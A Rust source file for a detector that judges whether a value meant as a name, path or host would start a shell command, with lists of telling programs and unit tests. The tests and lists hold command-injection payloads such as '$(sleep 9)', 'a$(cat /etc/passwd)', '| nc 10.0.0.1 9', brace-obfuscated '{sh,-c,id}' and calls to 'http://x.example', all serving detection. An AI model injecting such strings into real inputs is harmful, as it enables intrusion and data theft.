//! Whether a value that should be data starts a command where it lands in a shell.
//!
//! Names, paths and hosts may hold `;`, `|` and `&` honestly (`Rock & roll.mp3`, `find; fix; finish`), so an operator alone
//! says nothing. What follows it must be a program, and the more that program's name is a word people write, the more its
//! arguments must look like a command's.

use std::cell::OnceCell;

use super::Within;
use super::glob::shell_glob;
use super::model::{Command, Context, Joined, Word, WordFlags};
use super::programs::{Class, Classes, known_name};
use super::scratch::Shell;
use super::wrappers::listed;
use crate::message::Span;
use serde::{Deserialize, Serialize};

/// How sure it must be that a value starts a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Suffix {
    /// It does if the value is a name, a path or a host.
    Data,
    /// It does if the value is a host: no name or address holds what a shell acts on.
    Host,
    /// It does even if nothing says what the value is: an operator begins it, or ends what looks like a host or a file, or
    /// stands behind the quote that closes the string around it.
    Evident,
}

/// Programs that are nobody's word: their bare name behind an operator is enough.
const TELLING: &str = "id whoami uname ifconfig ipconfig netstat ls ps pwd systeminfo sysinfo hostname tasklist printenv lsof htop \
     lscpu lsblk dmesg phpinfo nslookup reboot shutdown visudo ansible-console chef-shell";

/// The same, but words too: `dog; cat`.
const TELLING_WORDS: &str = "cat dir env ping sleep";

/// Programs that are told by a number alone how long, how often or what; behind other names a number counts something else.
const COUNTING: &str = "sleep timeout usleep kill init telinit nc ncat netcat telnet";

/// Programs whose names are words of prose, of file names and of search patterns.
const WORDS: &str = "at w who time date find sort cut head tail more less file link look split join paste patch install expand fold \
     type test top free watch host service mount last groups arch script screen write wall mail echo pass source exec eval \
     command set which where select sum stat tree locate move copy rename sc star age rage compress format query route tor \
     bore links fetch finger transfer wormhole port brew choco snap stack hex mix gem go cargo yarn composer poetry bundle nix \
     code cursor view ex ed red joe ne kate zed micro nano pico as ld just task rake ant make grunt jest expect crystal dart \
     groovy janet pike ruby fly render sam vault consul railway heroku k kind nice retry call start op mise entr r nl od \
     ul comm column history batch users perf strings history watch cal net ver vol security pr print printf ar dd ri rd del \
     erase kill pass wish racket swift node python perl php lua scala julia bash zsh fish sh git docker svn hg gh dig \
     rev zip du su mi ni ne lt lp ip reg gps skill super uptime trash hatch helm salt tea pear drill elixir fossil genie halt \
     hush hydra most mosh nomad ninja notepad octave parallel parted puppet pup renice sponge symlink trap truncate unlink users \
     vis wipe lynx links john flex gradle gulp cipher chisel axel amplify bat ack mamba mongo meson maxima socket touch tox vite \
     webpack julia influx iodine firebase vagrant raku cron cp mv ftp tar rar";

/// What PowerShell's verbs are done to, in lower case: `Get-Process`. `Stop-Motion` and `Start-Up` are words.
const CMDLET_NOUNS: &str = "process service childitem content item itemproperty command expression webrequest restmethod \
     wmiobject ciminstance computerinfo localuser localgroup localgroupmember netipaddress nettcpconnection variable history \
     eventlog winevent acl host clipboard computer executionpolicy scheduledtask hotfix psdrive module aduser adgroup \
     mppreference wmimethod webjob job";

/// Where programs lie.
const PROGRAM_FOLDERS: [&[u8]; 5] = [b"/bin", b"/usr/bin", b"/sbin", b"/usr/sbin", b"/usr/local/bin"];

/// What `net` is asked on Windows.
const NET: &str = "user users localgroup group share view use accounts start stop session config statistics";

impl Suffix {
    /// Where a command starts that should not.
    pub(super) fn find(self, shell: Shell<'_>) -> Option<Span> {
        if self == Self::Host {
            return no_host(shell);
        }
        let leads = leads(shell);
        let first = shell.commands().first();
        // Only what stands right behind the quote: `it's 5 o'clock; call me` is prose.
        let closed = first.is_none_or(|first| shell.words(first).len() <= 1);
        let broken_out = shell.within() != Within::Nothing && closed;
        let alone = shell.within() == Within::Nothing;
        let behind_data = alone && first.is_some_and(|first| is_datum(shell, first));
        if alone
            && let Some(first) = first
            && (is_probe(shell, first)
                || self == Self::Data && (moves_on(shell) || computes(shell, first) || is_stacked_folder(shell, first)))
        {
            return Some(first.span);
        }
        if self == Self::Evident && !(leads || broken_out || behind_data) {
            return first.filter(|first| alone && is_braced(shell, first)).map(|first| first.span);
        }
        let all = Whole::default();
        let starts = |command: &&Command| {
            let capital = shell.program(command).first().is_some_and(u8::is_ascii_uppercase);
            is_apart(command)
                && (is_cmdlet(shell.name(command))
                    || !capital && self.is_command(shell, command, leads || broken_out, &all))
        };
        let whole = || first.filter(|first| self == Self::Data && is_disguised(shell, first));
        shell.commands().iter().find(starts).or_else(|| emptied(shell)).or_else(whole).map(|command| command.span)
    }

    fn is_command(self, shell: Shell<'_>, command: &Command, open: bool, all: &Whole) -> bool {
        let Some(program) = shell.words(command).first() else { return false };
        let typed = shell.text(program.text);
        // `(?<name>x)` groups in a pattern, and PowerShell filters by `?`.
        if typed == b"?" {
            return false;
        }
        let name = shell.name(command);
        let known = known_name(name)
            .map(str::as_bytes)
            .or((listed(TELLING, name) || listed(TELLING_WORDS, name)).then_some(name));
        let Some(known) = known else {
            // Unknown, but run by its place or with an option, or spelled as no name is.
            let rooted =
                typed.starts_with(b"/") && typed.split(|byte| *byte == b'/').any(|part| part.ends_with(b"bin"));
            let joined = !matches!(command.joined, Joined::Background | Joined::Newline);
            let optioned = joined && is_name(typed) && args(shell, command).next().is_some_and(is_option);
            let obscure = program.flags.has(WordFlags::EXPANSION) && (typed.len() > 3 && typed.contains(&b'/'));
            // `/bin/c?t`: a pattern in a folder of programs is nobody's text.
            let pattern = rooted && program.flags.has(WordFlags::GLOB) && !shell.args(command).is_empty();
            // Database shells leave to a shell with these.
            let left = matches!(typed, b".sh" | b".shell" | b".system") && command.joined != Joined::First;
            // `a.pdf"&calc.exe&"`; a file may be called `Rock & roll.exe`.
            let ending = memchr::memrchr(b'.', typed).and_then(|at| typed.get(at + 1..)).unwrap_or_default();
            let executable = open && matches!(ending, b"exe" | b"bat" | b"cmd" | b"ps1" | b"vbs");
            return left
                || pattern
                || self == Self::Data && (rooted || optioned || obscure || executable) && !typed.is_empty();
        };
        if program.flags.has(WordFlags::SPLICED) || program.flags.has(WordFlags::GLOB) {
            return true;
        }
        let filters = Classes::of(&[Class::Filter, Class::Printer]).meets(command.classes);
        if self == Self::Evident && filters && command.joined == Joined::Pipe {
            // What queries of logs and JSON look like: `| head 5`, `| select(.a)`.
            return false;
        }
        if self == Self::Data && !open && all.is_list(shell) {
            return false;
        }
        let shown = evidence(shell, command);
        if command.classes.has(Class::Shell) && command.joined == Joined::Pipe && shown == Shown::Nothing {
            // `cat x | sh`: what a command prints; `bash|zsh` is a choice.
            return all.prints(shell);
        }
        if listed(TELLING, known) {
            // `a & b` joins names more often than commands, and `a; id card` goes on as a sentence does.
            let bare = shell.args(command).is_empty() && command.joined != Joined::Background;
            return shown > Shown::Nothing || open || bare || known.len() > 5 && shell.args(command).is_empty();
        }
        if listed(TELLING_WORDS, known) {
            let then = matches!(command.joined, Joined::And | Joined::Or) && matches!(known, b"env" | b"dir");
            return shown > Shown::Nothing || open || then || command.reach.passes(Context::Substitution);
        }
        if listed(WORDS, known) {
            return shown == Shown::Plainly;
        }
        shown > Shown::Nothing || (open || is_asked(shell, command, known)) && self == Self::Data
    }
}

/// Programs that are told by a verb what to do: `kubectl delete ns prod`, `systemctl stop sshd`. None is a word.
const ASKED: &str = "kubectl systemctl aws gcloud az terraform tofu podman apt apt-get yum dnf apk pacman rclone gsutil \
     virsh launchctl crictl";

/// Those verbs.
const ASKED_TO: &str = "delete get apply exec run create edit patch scale describe logs cp rm stop start restart disable enable mask destroy \
     install uninstall remove purge init iam s3 ec2 sts compute projects state config set publish";

/// Whether such a program is told to do something to something.
fn is_asked(shell: Shell<'_>, command: &Command, known: &[u8]) -> bool {
    let mut args = args(shell, command);
    listed(ASKED, known) && args.next().is_some_and(|verb| listed(ASKED_TO, verb)) && args.next().is_some()
}

/// Whether a name in lower case is PowerShell's `verb-noun`.
fn is_cmdlet(name: &[u8]) -> bool {
    const VERBS: &str = "get set new remove invoke start stop restart clear add export import disable enable";
    let Some(dash) = memchr::memchr(b'-', name) else { return false };
    let (verb, noun) = (name.get(..dash).unwrap_or_default(), name.get(dash + 1..).unwrap_or_default());
    listed(VERBS, verb) && listed(CMDLET_NOUNS, noun)
}

/// How much the arguments look like a command's.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Shown {
    /// There are none, or they are words.
    Nothing,
    /// A number, a name with a dot, a pattern.
    Partly,
    /// An option, a place in the file system, an expansion, an address, a redirect.
    Plainly,
}

fn evidence(shell: Shell<'_>, command: &Command) -> Shown {
    let redirected = if shell.redirects(command).is_empty() { Shown::Nothing } else { Shown::Plainly };
    let counts = listed(COUNTING, shell.name(command));
    let words = shell.args(command).iter().map(|word| {
        let text = shell.text(word.text);
        let plainly = is_option(text)
            || word.flags.has(WordFlags::EXPANSION.with(WordFlags::SUBSTITUTION))
            || matches!(text, [b'/', next, ..] if next.is_ascii_alphanumeric())
            || text.starts_with(b"~/")
            || text.starts_with(b"../")
            || text.windows(3).any(|three| three == b"://")
            || matches!(text, [drive, b':', b'\\', ..] if drive.is_ascii_alphabetic());
        let partly = || {
            if text.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.') {
                return counts || memchr::memchr_iter(b'.', text).count() == 3;
            }
            text.iter().any(|byte| matches!(byte, b'/' | b'\\' | b'=' | b'*' | b'@' | b':' | b'%'))
                || memchr::memchr(b'.', text).is_some_and(|at| text.get(at + 1).is_some_and(u8::is_ascii_alphanumeric))
        };
        match () {
            () if plainly => Shown::Plainly,
            () if partly() => Shown::Partly,
            () => Shown::Nothing,
        }
    });
    let asks = shell.name(command) == b"net" && args(shell, command).next().is_some_and(|verb| listed(NET, verb));
    let asks = if asks { Shown::Plainly } else { Shown::Nothing };
    words.max().unwrap_or(Shown::Nothing).max(redirected).max(asks)
}

/// Whether the text begins with what parts commands: a line that a person types does not.
pub(super) fn leads(shell: Shell<'_>) -> bool {
    let Some(first) = shell.commands().first() else { return false };
    match first.joined {
        Joined::First | Joined::Newline => false,
        // PowerShell calls what is quoted, a variable or a path with it: `& "C:\Program Files\x.exe"`.
        // `cmd.exe` reads the same `&` as a plain separator.
        Joined::Semicolon if shell.words(first).first().is_some_and(|word| is_quoted(*word)) => false,
        Joined::Background => shell
            .words(first)
            .first()
            .is_some_and(|word| !word.flags.has(WordFlags::QUOTED) && is_name(shell.text(word.text))),
        _ => first.words.0 < first.words.1,
    }
}

/// Whether it does, or runs a command behind the end of quotes that stood around it.
pub(super) fn leads_or_ends(shell: Shell<'_>) -> bool {
    leads(shell) || shell.within() != Within::Nothing && Suffix::Data.find(shell).is_some()
}

/// What is asked of all commands together, found once however many ask it.
#[derive(Default)]
struct Whole {
    is_list: OnceCell<bool>,
    prints: OnceCell<bool>,
}

impl Whole {
    /// See [`is_list`].
    fn is_list(&self, shell: Shell<'_>) -> bool {
        *self.is_list.get_or_init(|| is_list(shell))
    }

    /// Whether one of the first commands prints something.
    fn prints(&self, shell: Shell<'_>) -> bool {
        let prints = |one: &Command| !one.classes.is_empty() && evidence(shell, one) > Shown::Nothing;
        *self.prints.get_or_init(|| shell.commands().iter().take_while(|one| one.depth == 0).any(prints))
    }
}

/// Whether the text is a list of three words and more: `name; id; email`.
fn is_list(shell: Shell<'_>) -> bool {
    let plain = |command: &Command| match shell.words(command) {
        [word] => is_name(shell.text(word.text)) && shell.redirects(command).is_empty(),
        _ => false,
    };
    shell.commands().len() > 2 && shell.commands().iter().all(plain)
}

/// Programs that are substituted into a value to see whether something runs it: they wait, ask the network, or say who one is.
const PROBES: &str = "sleep ping whoami nslookup dig curl wget uname";

/// The same, where nothing stands behind them.
const BARE_PROBES: &str = "id ls ifconfig ipconfig reboot shutdown halt calc printenv";

/// Programs that bring a file of the system into a value.
const READERS: &str = "cat tac head tail less more base64 xxd strings";

/// Folders whose files no name and no setting is made of.
const PRIVATE_FOLDERS: [&[u8]; 5] = [b"/etc/passwd", b"/etc/shadow", b"/root/", b"/proc/", b"/var/run/secrets/"];

/// Programs that change something or run something else, where a value would be made.
const MAKERS: &str = "touch rm nc ncat bash sh zsh python python3 perl ruby php powershell chmod mkfifo telnet";

/// Whether all of the text is one word with such a program in it: `Paris$(sleep 5)`, `x`whoami``.
fn is_probe(shell: Shell<'_>, first: &Command) -> bool {
    let [word] = shell.words(first) else { return false };
    let alone = shell.commands().iter().filter(|command| command.depth == 0).count() == 1;
    let probes = |command: &Command| {
        let (name, bare) = (shell.name(command), shell.args(command).is_empty());
        // `$(id -u)` and `$(cat VERSION)` fill in what is missing.
        let system = || args(shell, command).any(|arg| PRIVATE_FOLDERS.iter().any(|folder| arg.starts_with(folder)));
        command.reach.passes(Context::Substitution)
            && (listed(PROBES, name) && (evidence(shell, command) > Shown::Nothing || name == b"whoami")
                || bare && listed(BARE_PROBES, name)
                || listed(READERS, name) && system()
                || listed(MAKERS, name) && evidence(shell, command) == Shown::Plainly)
    };
    alone && word.flags.has(WordFlags::SUBSTITUTION) && shell.commands().iter().any(probes)
}

/// `cd /var; cd log; tac syslog`: who changes the folder runs something there.
fn moves_on(shell: Shell<'_>) -> bool {
    let [first, second, ..] = shell.commands() else { return false };
    let [_, to] = shell.words(first) else { return false };
    let to = shell.text(to.text);
    let runs =
        known_name(shell.name(second)).is_some() || shell.name(second) == b"cd" || listed(TELLING, shell.name(second));
    shell.name(first) == b"cd"
        && (to.starts_with(b"/") || to.starts_with(b"..") || to.starts_with(b"~"))
        && second.depth == 0
        && matches!(second.joined, Joined::Semicolon | Joined::And | Joined::Newline)
        && runs
}

/// `~-`, `~+2`: a folder that only a shell remembers. `~5` is about five.
fn is_stacked_folder(shell: Shell<'_>, first: &Command) -> bool {
    let [word] = shell.words(first) else { return false };
    matches!(shell.text(word.text), [b'~', b'+' | b'-', rest @ ..] if rest.iter().all(u8::is_ascii_digit))
}

/// Whether a shell would compute the name (`$((7))z`), or is piped into a name that only it knows (`echo | ${x}sh`).
fn computes(shell: Shell<'_>, first: &Command) -> bool {
    // The parse keeps no number.
    let counts = |word: &Word| shell.text(word.text).windows(5).any(|five| five == b"$(())");
    let fed = |command: &Command| {
        let program = shell.words(command).first();
        command.joined == Joined::Pipe && program.is_some_and(|word| word.flags.has(WordFlags::EXPANSION))
    };
    shell.words(first).iter().any(counts)
        || first.classes.has(Class::Printer) && shell.args(first).is_empty() && shell.commands().iter().any(fed)
}

/// Whether a word is one string in quotes. One that quotes break up is spelled to hide.
fn is_quoted(word: Word) -> bool {
    word.flags.has(WordFlags::QUOTED) && !word.flags.has(WordFlags::SPLICED)
}

/// A substitution of nothing inside a word, `who$()ami`: it is there to break the word up.
fn emptied(shell: Shell<'_>) -> Option<&Command> {
    if shell.commands().iter().any(|command| command.reach.passes(Context::Substitution)) {
        return None;
    }
    let substituted = |command: &&Command| {
        let first = shell.words(command).first();
        first.is_some_and(|word| {
            // Around a word they are how code is marked: ``like this``.
            word.flags.has(WordFlags::SUBSTITUTION)
                && word.flags.has(WordFlags::SPLICED)
                && shell.text(word.text).len() > 2
        })
    };
    shell.commands().iter().find(substituted)
}

/// Whether a whole value is a program spelled as nobody types it, and no name either: `{cat,/etc/hosts}`, `/???/c[a]t`.
fn is_disguised(shell: Shell<'_>, command: &Command) -> bool {
    let words = shell.words(command);
    let (Some(program), Some(last)) = (words.first(), words.last()) else { return false };
    let name = shell.name(command);
    if command.classes.is_empty() && known_name(name).is_none() && !listed(TELLING, name) && name != b"cd" {
        return false;
    }
    // All words came out of the one pair of braces, which adds a comma and itself.
    let braced = !program.flags.has(WordFlags::VERBATIM)
        && last.span == program.span
        && program.span.len() > program.text.len() + 2;
    if braced {
        return words.len() == 1 || evidence(shell, command) == Shown::Plainly;
    }
    let typed = shell.text(program.text);
    let single = typed.windows(3).any(|three| matches!(three, [b'[', letter, b']'] if letter.is_ascii_alphabetic()));
    let open = typed.iter().filter(|byte| **byte == b'?').count();
    // Folders of programs alone: `/app/[n]/id` and `/srv/??/l?` are places in a project.
    let folder = memchr::memrchr(b'/', typed).and_then(|at| typed.get(..at)).unwrap_or_default();
    program.flags.has(WordFlags::GLOB)
        && (single || open > 2)
        && PROGRAM_FOLDERS.iter().any(|known| shell_glob(folder, known))
}

/// Whether a value of any kind is a command out of braces: `{cat,/etc/hosts}`, `{sh,-c,id}`, `{,whoami}`. What one chooses from in a
/// pattern for names is no option, no file of the system and not empty.
fn is_braced(shell: Shell<'_>, command: &Command) -> bool {
    let words = shell.words(command);
    let Some(program) = words.first().filter(|word| !word.flags.has(WordFlags::VERBATIM)) else { return false };
    let one = words.last().is_some_and(|last| last.span == program.span) && program.span.len() > program.text.len() + 2;
    let (written, name) = (words.iter().map(|word| word.text.len() + 1).sum::<usize>() + 1, shell.name(command));
    let telling = listed(TELLING, name) || !command.classes.is_empty() && !listed(WORDS, name);
    let placed = |text: &[u8]| {
        let inner = text.strip_prefix(b"/").is_some_and(|rest| memchr::memchr(b'/', rest).is_some_and(|at| at > 0));
        is_option(text) || inner || text.windows(3).any(|three| three == b"://")
    };
    one && (program.span.len() > written && telling
        || (telling || known_name(name).is_some()) && args(shell, command).any(placed))
}

/// Where a value that should be a host holds what no host has. Placeholders (`${HOST}`, `<host>`, `{{ host }}`) and lists pass.
fn no_host(shell: Shell<'_>) -> Option<Span> {
    let sentence = shell.commands().first().is_some_and(|first| {
        let words = shell.words(first);
        let plain = |word: &Word| shell.text(word.text).iter().all(|byte| byte.is_ascii_alphabetic() || *byte == b',');
        words.len() > 3 && words.iter().all(plain) && known_name(shell.name(first)).is_none()
    });
    let odd = |command: &&Command| {
        let words = shell.words(command);
        let is_odd = |word: &Word| {
            let text = shell.text(word.text);
            word.flags.has(WordFlags::SUBSTITUTION) || matches!(text, [b'~', ..] | [b'$', b'[' | b'(', ..])
        };
        let known = !command.classes.is_empty() || known_name(shell.name(command)).is_some();
        let runs = words.len() > 1 && (known && evidence(shell, command) > Shown::Nothing || command.stage > 0);
        // `x /var/log/y`, `1; .shell id`
        let placed = words.iter().skip(1).any(|word| {
            matches!(shell.text(word.text), [b'/', rest @ ..] if memchr::memchr(b'/', rest).is_some_and(|at| at > 0))
        });
        let grouped = command.reach.passes(Context::Subshell)
            && (listed(TELLING, shell.name(command)) || known && evidence(shell, command) > Shown::Nothing);
        // `printer (2nd floor)`
        let aside = command.reach.passes(Context::Subshell);
        // `the box in Berlin; I think it is db-7`: who answers in a sentence names no host, and no program either.
        let joined = words.len() > 1
            && !aside
            && (known || !sentence)
            && matches!(command.joined, Joined::Semicolon | Joined::And | Joined::Or);
        words.iter().any(is_odd)
            || runs
            || placed
            || grouped
            || joined
            || is_disguised(shell, command)
            || !words.is_empty() && !shell.redirects(command).is_empty()
    };
    shell.commands().iter().find(odd).map(|command| command.span)
}

fn is_apart(command: &Command) -> bool {
    command.depth == 0 && command.joined != Joined::First
        || command.reach.passes(Context::Substitution)
        || command.reach.passes(Context::ProcessSubstitution)
}

/// Whether a command is one word that no program is called: an address, a host, a file with an ending, a number, a letter, a setting.
fn is_datum(shell: Shell<'_>, command: &Command) -> bool {
    // Options behind it are put there for a program too: `10.0.0.1 --script=x`.
    let words = shell.words(command);
    let words = match words {
        [word, rest @ ..] if rest.iter().all(|word| is_option(shell.text(word.text))) => std::slice::from_ref(word),
        _ => words,
    };
    let [word] = words else {
        return command.words.0 == command.words.1
            && !shell.assignments(command).is_empty()
            && shell.redirects(command).is_empty();
    };
    let text = shell.text(word.text);
    let dotted = memchr::memchr(b'.', text).is_some_and(|at| at > 0 && at + 1 < text.len());
    // `Paris && sleep 5`, `/dev/null; touch /tmp/x`
    let named =
        matches!(text, [first, rest @ ..] if first.is_ascii_uppercase() && rest.iter().all(u8::is_ascii_lowercase));
    // `--level=3 | nc 10.0.0.1 9`: options for a program that somebody else named.
    if text.starts_with(b"/dev/") || text.starts_with(b"--") && memchr::memchr(b'=', text).is_some() {
        return true;
    }
    (dotted || named || text.len() == 1 || text.iter().all(u8::is_ascii_digit) && !text.is_empty())
        && !matches!(text, [b'/' | b'.' | b'~' | b'$', ..])
        && known_name(shell.name(command)).is_none()
}

fn args<'a>(shell: Shell<'a>, command: &Command) -> impl Iterator<Item = &'a [u8]> {
    shell.args(command).iter().map(move |word| shell.text(word.text))
}

fn is_option(text: &[u8]) -> bool {
    matches!(text, [b'-', b'-', letter, ..] | [b'-', letter, ..] if letter.is_ascii_alphanumeric())
}

fn is_name(text: &[u8]) -> bool {
    text.len() > 1 && text.iter().all(|byte| byte.is_ascii_lowercase() || matches!(byte, b'-' | b'_' | b'0'..=b'9'))
}

#[cfg(test)]
mod tests {
    use super::super::{Dialect, ShellScratch, Within, parse_within};
    use super::Suffix;

    fn found(text: &str, within: Within, suffix: Suffix) -> bool {
        let mut scratch = ShellScratch::default();
        parse_within(text.as_bytes(), Dialect::Posix, within, &mut scratch);
        suffix.find(scratch.shell()).is_some()
    }

    #[test]
    fn what_starts_a_command_is_found() {
        for text in [
            "a; id",
            "a | whoami",
            "a && cat /etc/hosts",
            "a;w''get x",
            "`uname -a`",
            "$(sleep 9)",
            "a;/usr/bin/id",
            "a; frob --x",
            "a & ping -c1 10.0.0.1",
            ";htop",
            "a;find / -name x",
            "{,id}",
            "{tac,/etc/hosts}",
            "/???/ca[t]",
            "{cd,/srv}",
            "default; kubectl delete ns prod",
        ] {
            assert!(found(text, Within::Nothing, Suffix::Data), "{text}");
        }
        for text in [
            "$(id)",
            "lp0$(id)",
            "a$(cat /etc/passwd)",
            "x$(touch /tmp/x)",
            "10.0.0.1 | Get-Process",
            "10.0.0.1; Invoke-WebRequest http://x.example",
            "--level=3 | nc 10.0.0.1 9",
            "10.0.0.1 --script=/tmp/x; ls -la",
            "Oslo;/bin/c?t /etc/hosts",
        ] {
            assert!(found(text, Within::Nothing, Suffix::Evident), "{text}");
        }
        for text in ["{cat,/etc/hosts}", "{sh,-c,id}", "{,whoami}", "{,id,}", "{curl,http://x.example}"] {
            assert!(found(text, Within::Nothing, Suffix::Evident), "{text}");
        }
        for text in [
            "{cat,dog}",
            "{src,/lib}",
            "{find,/search}",
            "{head,tail}",
            "{,docker}",
            "*.{sh,bash}",
            "{git,svn}/x",
            "{id,name}",
        ] {
            assert!(!found(text, Within::Nothing, Suffix::Evident), "{text}");
        }
        for text in ["$(pwd)/data", "v$(cat VERSION)", "$(id -u):$(id -g)", "app-$(date +%F)", "a; Stop-Motion"] {
            assert!(!found(text, Within::Nothing, Suffix::Evident), "{text}");
        }
        for text in ["; touch /tmp/x", "| whoami", "a.example; curl 10.0.0.1", "&& wget http://x.example"] {
            assert!(found(text, Within::Nothing, Suffix::Evident), "{text}");
        }
        assert!(found("';id;'", Within::SingleQuotes, Suffix::Data));
        assert!(found("\"; cat /etc/hosts; \"", Within::DoubleQuotes, Suffix::Evident));
        assert!(found("a.pdf\"&calc.exe&\"", Within::DoubleQuotes, Suffix::Data));
        assert!(!found("Rock & roll.exe", Within::Nothing, Suffix::Data));
    }

    #[test]
    fn no_host_is_a_command() {
        for text in ["~0", "$[2+2]", "wh``oami", "nohup x > /dev/null &", "cat /etc/hosts", "a <<< b", "a b | tr x y"] {
            assert!(found(text, Within::Nothing, Suffix::Host), "{text}");
        }
        let honest =
            ["db-1.internal", "${DB_HOST}", "$HOST", "{{ host }}", "<host>", "a, b", "a.example;b.example", "[::1]:80"];
        for text in honest.into_iter().chain([
            "10.0.0.0/24",
            "x\n",
            "*.example",
            "sql-01\\REPORT",
            "redis cache",
            "a|b",
            "printer (2nd floor)",
            "the build box in Berlin; I think it is db-7",
        ]) {
            assert!(!found(text, Within::Nothing, Suffix::Host), "{text}");
        }
    }

    #[test]
    fn names_with_operators_pass() {
        for text in [
            "R&D plan.md",
            "find; fix; finish",
            "cut & paste.txt",
            "a; b",
            "hello; time he came",
            "Rhythm; blues",
            "sort & filter",
            "type: bug | area: shell",
            "x; Cat",
            "python|ruby",
            "a|b.txt",
            "{a,b}",
            "{sort,filter}",
            "{src,/lib}",
            "/usr/bin/python3*",
            "/app/[n]/b",
            "/app/[n]/id",
            "/data/????/l?",
            "/srv/img/c?t.p[n]g",
            "kubectl; systemctl and their friends",
            "run `npm test` && `npm run lint`",
            "``sl.__getitem__``",
            "``fill_value``, ``inplace",
        ] {
            assert!(!found(text, Within::Nothing, Suffix::Data), "{text}");
        }
        for text in [
            "foo; bar",
            "--a=1 | grep foo",
            "--a=1; --b=2",
            "import os; import sys",
            "| head 5",
            "| grep foo",
            "ls | grep foo",
            "cd x; ls -la",
            "a || b",
        ] {
            assert!(!found(text, Within::Nothing, Suffix::Evident), "{text}");
        }
    }
}
